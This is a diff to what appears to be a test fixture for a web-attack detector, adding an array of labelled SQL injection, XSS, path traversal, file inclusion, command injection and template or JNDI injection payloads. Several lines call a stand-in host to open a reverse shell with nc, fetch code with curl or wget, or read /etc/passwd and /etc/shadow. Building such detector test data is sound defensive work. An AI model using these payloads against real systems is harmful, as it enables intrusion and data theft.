@@ -184,3 +184,36 @@ export const holdoutBenign: BenignValue[] = [
   ...['../assets/app.css', '../../images/hero.jpg', 'docs/../README.md'].map((value) => ({ param: 'href', value })),
   ...['profile-picture.png', 'invoice_2024-03.pdf', 'data.tar.gz', 'etc-notes.txt', 'passwords-policy.docx'].map((value) => ({ param: 'upload', value })),
 ]
+
+/** A third batch, written last, in the compact and encoded forms scanners and people actually send. */
+export const freshAttacks: AttackPayload[] = [
+  ...of('sqli', 'id', [
+    "1'or'1'='1", '1/**/or/**/1=1', "1'%0aor%0a'1'='1", "admin'||'", '1 aNd 1=1', "1' AnD SlEeP(5)--", '%2527%2520or%25201=1',
+    "1;exec('sel'+'ect 1')", "' or 1 in (select 1)--", "1' and '1'='1", "' || utl_http.request('http://evil.example')--",
+    'SELECT/**/password/**/FROM/**/users', "'; select * from users where 'a'='a", '1) or sleep(5)#', '" or 1=1 --', 'admin" --',
+    '1 union select null--', "1' and extractvalue(rand(),concat(0x3a,(select database())))--", '1%20union%20select%201,2,3', "x'; waitfor delay '0:0:5'--",
+  ]),
+  ...of('xss', 'msg', [
+    '<svg><script>alert(1)</script>', '<a onmouseover=alert(1)>x</a>', '<img src onerror=alert(1)>', '"><img src=x onerror=prompt(document.cookie)>',
+    '<script>alert`1`</script>', '<iframe/onload=alert(1)>', '<video src=x onerror=alert(1)>', '<math href="javascript:alert(1)">x</math>',
+    '%3Csvg%20onload%3Dalert(1)%3E', '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;', 'jav%09ascript:alert(1)', '<a href="  javascript:alert(1)">x</a>',
+    '<body background="javascript:alert(1)">', '<svg onload=eval(location.hash.slice(1))>', '<img src=x:x onerror=alert(1)//', '<<script>alert(1)//<</script>',
+    '<img src="javascript:alert(\'x\')">', '<div style="background:url(javascript:alert(1))">', "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>", '</script><script>alert(1)</script>',
+  ]),
+  ...of('lfi', 'page', [
+    '....//....//etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '..%00/etc/passwd', '/etc/passwd', 'C:/windows/win.ini', '..\\..\\..\\..\\..\\..\\..\\..\\boot.ini',
+    '../../../../../../etc/passwd%00', '..././..././..././etc/passwd', '..%252F..%252Fetc%252Fpasswd', '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow',
+    '/proc/self/environ%00', 'file:///c:/windows/win.ini', '../../../../../../../../../../../../etc/hosts', '/../../../../../../../etc/passwd',
+  ]),
+  ...of('rfi', 'page', ['http://evil.example/shell.txt', 'https://pastebin.example/raw/abc123', 'ftp://evil.example/x.php', 'http://evil.example/x.php?', 'HTTP://EVIL.EXAMPLE/SHELL.TXT?']),
+  ...of('rce', 'target', [
+    ';ls', '| ls -la', '&& cat /etc/passwd', '$(id)', '`id`', ';nc -e /bin/bash 10.0.0.1 4444', '|| whoami', '; ping -c 3 evil.example', ';sleep 5;', '%0Aid',
+    'a%3Bid', '127.0.0.1%26%26id', ';/bin/cat /etc/passwd', '& whoami &', ';echo vulnerable', '$(curl http://evil.example/)', '{cat,/etc/passwd}', ';cat$IFS/etc/passwd',
+    '|wget http://evil.example/x', '; bash -c "id"',
+  ]),
+  ...of('code-injection', 'value', [
+    '${jndi:ldap://127.0.0.1:1389/a}', '${jNdI:lDaP://evil.example/x}', '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D', '<?php echo `id`; ?>', '<?=system($_GET[0]);',
+    '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7 * 7 %>', "{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}", '__proto__[admin]=1', '{"constructor":{"prototype":{"admin":true}}}',
+    "require('child_process').spawn('sh')", 'Runtime.getRuntime().exec("calc")', '@{7*7}', "${T(java.lang.Runtime).getRuntime().exec('id')}",
+  ]),
+]
